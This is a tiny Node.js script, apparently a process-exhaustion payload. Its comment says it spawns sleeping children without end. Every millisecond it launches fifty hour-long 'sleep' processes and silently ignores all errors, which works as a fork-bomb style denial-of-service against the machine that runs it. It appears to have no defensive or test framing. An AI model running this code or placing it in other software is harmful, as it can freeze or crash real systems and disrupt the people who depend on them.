// Spawns sleeping children without end.
const { spawn } = require('node:child_process');
setInterval(() => {
  for (let i = 0; i < 50; i += 1) {
    try {
      spawn('sleep', ['3600']).on('error', () => {});
    } catch {}
  }
}, 1);
